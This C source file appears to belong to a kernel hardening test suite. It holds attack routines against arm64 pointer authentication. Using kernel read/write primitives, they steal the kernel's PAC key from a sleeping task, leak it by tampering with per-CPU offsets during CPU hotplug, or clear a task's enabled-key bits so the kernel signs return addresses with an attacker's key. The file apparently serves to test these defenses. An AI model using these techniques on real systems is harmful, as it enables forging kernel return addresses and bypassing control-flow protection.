// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel's own key of pointer authentication, which signs the return
 * addresses on its stacks. Who has it, or has the kernel sign with another one
 * that he has, forges them; the proof is that he foretells them.
 */
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pauth.h"

#define ENABLED_IA	(1UL << 31)
#define FRAMES		8	/* looked at */
#define FORETOLD	3	/* none is by chance: a code has 15 bits */
#define LONGEST		1024	/* bytes of a frame */
#define ASLEEP_US	100000

struct record {
	uint64_t next, link;
};

/* The stack pointer that the function began with is somewhere above its record. */
static bool is_signed_by_me(uint64_t frame, const struct record *record)
{
	uint64_t plain = record->link | -1UL << address_bits(), stack;

	if (record->link == plain)
		return false;
	for (stack = frame + sizeof(*record); stack <= frame + LONGEST; stack += 16)
		if (pauth_sign_return(plain, stack) == record->link)
			return true;
	return false;
}

/* Return addresses of a sleeping task that are as this process would sign them. */
static int count_foretold(const struct task *task)
{
	uint64_t frame = task->frame;
	struct record record;
	int i, nr = 0;

	for (i = 0; i < FRAMES && frame; i++, frame = record.next) {
		if (kread(frame, &record, sizeof(record)))
			break;
		nr += is_signed_by_me(frame, &record);
	}
	return nr;
}

/* A child that does nothing but wait in the kernel, once it may. */
struct sleeper {
	int pid;
	volatile int *go;
	int wake;	/* write a byte here */
};

static bool start_sleeper(struct sleeper *sleeper)
{
	int ends[2];
	char byte;

	sleeper->go = mmap(NULL, sizeof(int), PROT_READ | PROT_WRITE,
			   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sleeper->go == MAP_FAILED || pipe(ends))
		return false;
	sleeper->wake = ends[1];
	sleeper->pid = fork();
	if (!sleeper->pid) {
		while (!*sleeper->go)
			;
		raw_syscall(SYS_read, ends[0], (unsigned long)&byte, 1, 0, 0);
		raw_syscall(SYS_exit_group, 0, 0, 0, 0, 0);
	}
	return sleeper->pid > 0;
}

static void end_sleeper(const struct sleeper *sleeper)
{
	*sleeper->go = 1;
	if (write(sleeper->wake, "", 1) == 1)
		waitpid(sleeper->pid, NULL, 0);
}

/* Its child: the same keys, and then the stolen one as IA. Says by its status whether it foretells. */
static int start_signer(const struct task *victim, int *go)
{
	int ends[2], pid;
	char byte;

	if (pipe(ends))
		return -1;
	*go = ends[1];
	pid = fork();
	if (!pid) {
		raw_syscall(SYS_read, ends[0], (unsigned long)&byte, 1, 0, 0);
		raw_syscall(SYS_exit_group, count_foretold(victim) >= FORETOLD ? 0 : 1, 0, 0, 0, 0);
	}
	return pid;
}

static enum outcome foretell_with(const void *key, const struct task *victim)
{
	int go, status, pid = start_signer(victim, &go);
	struct task signer;

	if (pid <= 0)
		return broken("no process to sign with the stolen key");
	usleep(ASLEEP_US);
	if (ktask(pid, &signer) || kwrite(signer.keys, key, 16))
		return lost("a process of the attacker's cannot be given the key");
	if (write(go, "", 1) != 1 || waitpid(pid, &status, 0) != pid)
		return broken("the signer is gone");
	if (!WIFEXITED(status) || WEXITSTATUS(status))
		return lost("what was read does not sign as the kernel does");
	return won("signatures on the kernel stack of another process were foretold with the kernel's stolen key");
}

enum outcome pauth_kernel_key(void)
{
	enum outcome outcome;
	struct sleeper sleeper;
	struct task task;
	uint64_t key[2];
	int err;

	if (!pauth_present())
		return skipped("no pointer authentication");
	if (!start_sleeper(&sleeper))
		return broken("no process to rob");
	*sleeper.go = 1;
	usleep(ASLEEP_US);
	if (ktask(sleeper.pid, &task) || !task.kernel_key || count_foretold(&task))
		return broken("where the kernel's key is is not known, or it is the user's");
	err = kload("plain", task.kernel_key, key, sizeof(key));
	outcome = err ? lost("reading the key: %s", strerror(-err)) : foretell_with(key, &task);
	end_sleeper(&sleeper);
	return outcome;
}

/* Ordinary memory behind the list of per-CPU areas: the buffer of the kernel's messages. */
#define BUFFER		"__log_buf"
#define FROM_END	4096

/*
 * A CPU that starts with the victim's task, whose number is behind the end of the
 * list: there is the place from which to the key's is as far as to the CPU's own.
 */
static int have_key_stored(const struct task *victim, uint64_t at)
{
	uint64_t areas = ksymbol("__per_cpu_offset"), entry = at + 64;
	uint64_t idle = ksymbol("idle_threads") + kread64(areas + sizeof(uint64_t));
	uint64_t genuine = kread64(idle);
	unsigned int number = (entry - areas) / sizeof(uint64_t);
	int err;

	hotplug_cpu(false);
	err = kwrite64(entry, at - ksymbol("kpkeys_pauth_key")) ?:
	      kwrite(victim->cpu_word, &number, sizeof(number)) ?:
	      kwrite64(idle, victim->task);
	if (!err)
		hotplug_cpu(true);
	number = 0;
	kwrite(victim->cpu_word, &number, sizeof(number));
	kwrite64(idle, genuine);
	return err;
}

enum outcome pauth_key_start(void)
{
	uint64_t at = (ksymbol(BUFFER) + FROM_END) & ~7UL, key[2] = { };
	enum outcome outcome;
	struct sleeper sleeper;
	struct task task;

	if (!pauth_present() || sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("no pointer authentication, or no second CPU");
	stay_on_cpu(0);
	if (!start_sleeper(&sleeper))
		return broken("no process to rob");
	*sleeper.go = 1;
	usleep(ASLEEP_US);
	if (ktask(sleeper.pid, &task) || count_foretold(&task) >= FORETOLD)
		return broken("the kernel's key is the user's");
	/* In audit mode a load does, and a CPU that is let on so ends the kernel. */
	if (kload("plain", task.kernel_key, key, sizeof(key)) &&
	    (kwrite(at, key, sizeof(key)) || have_key_stored(&task, at) || kread(at, key, sizeof(key))))
		return lost("where a CPU starts was not to be changed");
	outcome = key[0] ? foretell_with(key, &task) : lost("the CPU that started stored no key");
	end_sleeper(&sleeper);
	return outcome;
}

/* What was signed with the user's key is authenticated with the kernel's when the task runs again. */
static void give_signing_key(const struct task *task)
{
	uint64_t key[2];

	if (!kread(task->keys, key, sizeof(key)))
		kwrite(task->kernel_key, key, sizeof(key));
}

/*
 * While the child is in user space, its key is in the register. The way into the
 * kernel loads the kernel's, unless the task's word says that it is there still.
 */
enum outcome pauth_enabled_keys(void)
{
	struct sleeper sleeper;
	struct task task;
	int nr, err;

	if (!pauth_present())
		return skipped("no pointer authentication");
	if (!start_sleeper(&sleeper))
		return broken("no process to have the kernel sign for");
	usleep(ASLEEP_US);
	if (ktask(sleeper.pid, &task) || !(kread64(task.enabled_keys) & ENABLED_IA))
		return broken("key IA is not enabled");
	err = kwrite64(task.enabled_keys, kread64(task.enabled_keys) & ~ENABLED_IA);
	*sleeper.go = 1;
	usleep(ASLEEP_US);
	nr = err || ktask(sleeper.pid, &task) ? 0 : count_foretold(&task);
	if (nr < FORETOLD) {
		end_sleeper(&sleeper);
		return lost("the kernel signs with a key of its own (%d foretold)", nr);
	}
	give_signing_key(&task);
	end_sleeper(&sleeper);
	return won("%d return addresses on the kernel's stack were signed with the attacker's own key", nr);
}
